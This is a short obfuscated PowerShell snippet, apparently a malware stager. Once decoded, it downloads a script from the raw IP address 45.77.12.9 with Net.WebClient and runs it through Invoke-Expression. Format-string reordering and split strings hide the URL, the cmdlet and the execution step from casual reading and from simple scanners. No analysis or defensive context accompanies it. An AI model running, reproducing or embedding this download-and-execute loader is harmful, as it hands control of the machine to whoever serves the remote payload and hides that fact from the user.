$h = "{3}{1}{0}{2}" -f '77.12', '45.', '.9', 'http://'
$wc = & ('Ne' + 'w-Ob' + 'ject') ('Net.' + 'Web' + 'Client')
$s = $wc.("{1}{0}{2}" -f 'loadStr', 'Down', 'ing')("$h/p")
& ("{2}{0}{1}" -f 'ex', '', 'I') $s
